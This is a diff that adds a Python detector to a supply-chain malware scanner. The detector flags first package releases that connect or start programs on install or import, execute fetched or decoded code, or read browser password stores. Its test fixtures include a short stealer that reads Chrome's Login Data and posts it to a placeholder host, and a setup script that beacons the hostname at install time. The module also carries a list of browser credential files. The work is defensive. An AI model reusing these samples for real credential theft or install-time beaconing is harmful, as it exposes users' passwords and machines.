@@ -1,0 +1,243 @@
+"""This update is the first that anybody here sees of its line, and its code acts.
+
+## What it detects
+Only where there is no earlier release to measure against: code that connects or starts programs while it is installed
+or as soon as its module is loaded; and, wherever it stands, code that starts what it fetches from a hidden, bare or
+suspicious address, executes what it decodes, reads a browser's stored passwords and connects, or names a place that
+payloads send to.
+
+## Why it matters
+A package that is made to do harm never had a harmless release: there is no change to see and no habit to compare with.
+What it does has to be weighed by how often releases that are in honest use do the same. Whether its function is called
+by an entry point or by whoever imports it makes little difference: the package is there for that.
+
+## What it misses
+Packages whose payload stands in a program, in a dependency or on a server alone; what honest packages do just as often.
+Later releases: there is a line then, and other detectors ask what is new in it.
+
+## References
+- MITRE ATT&CK T1195.002; T1105; T1555.003, Credentials from Web Browsers
+- Guo et al., *An Empirical Study of Malicious Code In PyPI Ecosystem* (arXiv 2309.11021)
+"""
+
+from collections.abc import Collection, Iterator
+
+from lazaretto.core.destination import destination
+from lazaretto.core.facts import Kind, Reach
+from lazaretto.core.finding import Card, Example, Finding
+from lazaretto.core.question import (
+    Tally,
+    chains,
+    decoded,
+    hidden,
+    is_document,
+    package_json,
+    runs_by_itself,
+    runs_when_loaded,
+)
+from lazaretto.core.update import Pair, Placed, Update
+
+CARD = Card(
+    id="acts-at-first-contact",
+    title="A release without a line acts by itself",
+    variants={
+        "install-both": "Code that runs at installation connects and starts a program.",
+        "install-connects": "Code that runs at installation connects.",
+        "install-starts": "Code that runs at installation starts a program that does not belong to building.",
+        "load-both": "A module connects and starts a program as soon as it is loaded.",
+        "load-connects": "A module connects as soon as it is loaded.",
+        "load-starts": "A module starts a program as soon as it is loaded.",
+        "starts-fetched": "Code starts what it fetches from a bare, hidden or suspicious address.",
+        "executes-fetched": "Code evaluates what it fetches.",
+        "starts-download": "Code starts what it fetches.",
+        "executes-decoded": "Code executes text or commands that were encoded or encrypted.",
+        "browser-secrets": "Code reads what a browser stores, and connects.",
+        "wallet-sent": "Code touches wallets or keys, and connects to a suspicious address.",
+        "secret-taken": "Code reads a credential or the whole environment, and connects, in one file.",
+        "payload-place": "Code names a web hook, a tunnel, a drop or another place that payloads send to.",
+    },
+    group="first-contact",
+    why="What is made to do harm never had a harmless release.",
+    attack=("T1195.002", "T1105", "T1555.003"),
+)
+
+_NET = (Kind.NET_CONNECT, Kind.DNS_QUERY)
+_TESTS = frozenset({"test", "tests", "testing", "__tests__", "spec", "fixtures", "examples", "docs", "benchmarks"})
+_BUILDING = frozenset(
+    "git hg svn make gmake nmake ninja cmake meson autoconf automake libtool gcc g++ cc c++ clang clang++ ld ar ranlib "
+    "pkg-config pkgconf rustc cargo go swig cython nvcc xcrun xcode-select sw_vers uname lsb_release ldconfig "
+    "llvm-config mysql_config pg_config node-gyp node-pre-gyp prebuild-install node-gyp-build tsc install_name_tool "
+    "patchelf strip which where".split()
+)
+"""Programs that building and releasing start."""
+
+_BROWSERS = (
+    "local state", "login data", "leveldb", "user data", "cookies.sqlite", "logins.json", "key4.db", "web data",
+)  # fmt: skip
+_PLACES = frozenset({"webhook", "messenger", "callback", "tunnel", "paste", "drop", "hidden-service"})
+
+_STEALER = (
+    "import os\nimport urllib.request\nPATH = os.path.join(os.environ['LOCALAPPDATA'], "
+    "'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\ndef take():\n    data = open(PATH, 'rb').read()\n"
+    "    urllib.request.urlopen('https://take.invalid/', data)\n"
+)
+
+EXAMPLES = (
+    Example(
+        title="a setup script that tells a server where it is installed",
+        ecosystem="pypi",
+        sdist=True,
+        after={
+            "setup.py": "from setuptools import setup\nimport socket, urllib.request\n"
+            "urllib.request.urlopen('https://count.invalid/?h=' + socket.gethostname())\n"
+            "setup(name='example-pad', version='1.0.0', py_modules=['pad'])\n",
+            "pad.py": "WIDTH = 2\n",
+        },
+        expect="install-connects",
+        at="setup.py:3",
+    ),
+    Example(
+        title="a module that starts a program as soon as it is imported",
+        after={
+            "package.json": package_json("1.0.0"),
+            "index.js": "require('child_process').exec('whoami');\nmodule.exports = (a) => a;\n",
+        },
+        expect="load-starts",
+        at="index.js:1",
+    ),
+    Example(
+        title="a function that takes what a browser stores",
+        ecosystem="pypi",
+        after={"pad/__init__.py": "WIDTH = 2\n", "pad/take.py": _STEALER},
+        expect="browser-secrets",
+        at="pad/take.py:5",
+    ),
+    Example(
+        title="a setup script that asks for the commit it is built from",
+        ecosystem="pypi",
+        sdist=True,
+        after={
+            "setup.py": "from setuptools import setup\nimport subprocess\n"
+            "subprocess.run(['git', 'rev-parse', 'HEAD'])\nsetup(name='example-pad', version='1.0.0')\n",
+        },
+    ),
+    Example(
+        title="a client that connects when it is called",
+        after={
+            "package.json": package_json("1.0.0"),
+            "index.js": "exports.load = () => fetch('https://api.invalid/v1').then((r) => r.json());\n",
+        },
+    ),
+    Example(
+        title="an update whose installer always connected",
+        before={
+            "package.json": package_json("1.0.0", scripts={"postinstall": "node install.js"}),
+            "install.js": "require('https').get('https://files.invalid/pad-1.0.0.tgz');\n",
+        },
+        after={
+            "package.json": package_json("1.0.1", scripts={"postinstall": "node install.js"}),
+            "install.js": "require('https').get('https://files.invalid/pad-1.0.1.tgz');\n",
+        },
+    ),
+)
+
+_MESSAGES = {
+    "install-both": "connects and starts programs while it is installed",
+    "install-connects": "connects while it is installed",
+    "install-starts": "starts a program while it is installed",
+    "load-both": "connects and starts programs as soon as it is loaded",
+    "load-connects": "connects as soon as it is loaded",
+    "load-starts": "starts a program as soon as it is loaded",
+    "starts-fetched": "starts what it fetches from a suspicious address",
+    "executes-fetched": "evaluates what it fetches",
+    "starts-download": "starts what it fetches",
+    "executes-decoded": "executes what it decodes",
+    "browser-secrets": "reads what a browser stores, and connects",
+    "wallet-sent": "touches wallets or keys, and connects to a suspicious address",
+    "secret-taken": "reads credentials or the whole environment where it connects",
+    "payload-place": "names a place that payloads send to",
+}
+
+
+def detect(update: Update) -> Iterator[Finding]:
+    """Yield one finding for each variant; none where there is an earlier release."""
+    tally = Tally(CARD)
+    for pair in update.pairs:
+        if pair.before is None:
+            _by_itself(tally, pair)
+            _runs_strange_code(tally, pair)
+            _takes(tally, pair)
+    yield from tally.findings(_MESSAGES)
+
+
+def _by_itself(tally: Tally, pair: Pair) -> None:
+    for when, places in (
+        ("install", [p for p in pair.after.placed if p.reach is Reach.INSTALL]),
+        ("load", [p for p in pair.after.placed if _loads(p)]),
+    ):
+        connects = [p for p in places if p.fact.kind in _NET]
+        starts = [p for p in places if p.fact.kind is Kind.PROCESS_SPAWN and not _builds(p.fact.value)]
+        files = {p.path for p in connects} & {p.path for p in starts}
+        if files:
+            tally.add(f"{when}-both", pair, *(p for p in [*connects, *starts] if p.path in files))
+        elif connects:
+            tally.add(f"{when}-connects", pair, *connects)
+        elif starts:
+            tally.add(f"{when}-starts", pair, *starts)
+
+
+def _runs_strange_code(tally: Tally, pair: Pair) -> None:
+    view = pair.after
+    for chain in chains(view, (Kind.NET_CONNECT,), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
+        fact = chain.source.fact
+        if not _counts(chain.sink):
+            continue
+        if hidden(fact) or destination(fact.value):
+            tally.add("starts-fetched", pair, chain.source, chain.sink)
+        elif chain.data and fact.value and chain.sink.fact.kind is Kind.CODE_EVAL:
+            tally.add("executes-fetched", pair, chain.source, chain.sink)
+        elif chain.data and fact.value:
+            tally.add("starts-download", pair, chain.source, chain.sink)
+    for chain in chains(view, (Kind.DECODE, Kind.DECRYPT), (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)):
+        if chain.data and _counts(chain.sink):
+            tally.add("executes-decoded", pair, chain.sink)
+            tally.explain("executes-decoded", decoded(pair, chain.sink.path))
+    executed = [p for p in view.placed if p.fact.kind in (Kind.PROCESS_SPAWN, Kind.CODE_EVAL)]
+    tally.add("executes-decoded", pair, *(p for p in executed if hidden(p.fact) and _counts(p)))
+
+
+def _takes(tally: Tally, pair: Pair) -> None:
+    view = pair.after
+    nets = {p.path for p in view.placed if p.fact.kind in _NET}
+    sends = {p.path for p in view.placed if p.fact.kind in _NET and (hidden(p.fact) or destination(p.fact.value))}
+    for placed in view.placed:
+        fact = placed.fact
+        if not _counts(placed):
+            continue
+        if fact.kind in (Kind.SECRET_READ, Kind.ENV_DUMP) and placed.path in nets:
+            browser = fact.kind is Kind.SECRET_READ and _names(fact.value, _BROWSERS)
+            tally.add("browser-secrets" if browser else "secret-taken", pair, placed)
+        if fact.kind is Kind.WALLET_TOUCH and placed.path in sends:
+            tally.add("wallet-sent", pair, placed)
+        if fact.kind in (*_NET, Kind.LITERAL_URL) and destination(fact.value) in _PLACES:
+            tally.add("payload-place", pair, placed)
+
+
+def _loads(placed: Placed) -> bool:
+    imported = runs_by_itself(placed) and placed.reach is not Reach.INSTALL
+    return _counts(placed) and (imported or runs_when_loaded(placed))
+
+
+def _counts(placed: Placed) -> bool:
+    folders = set(placed.path.lower().split("/")[:-1])
+    return not _TESTS & folders and not is_document(placed.path)
+
+
+def _builds(command: str | None) -> bool:
+    word = (command or "").split(" ", 1)[0].replace("\\", "/").rpartition("/")[2].lower().removesuffix(".exe")
+    return word.strip("\"'") in _BUILDING
+
+
+def _names(value: str | None, words: Collection[str]) -> bool:
+    text = (value or "").lower()
+    return any(word in text for word in words)
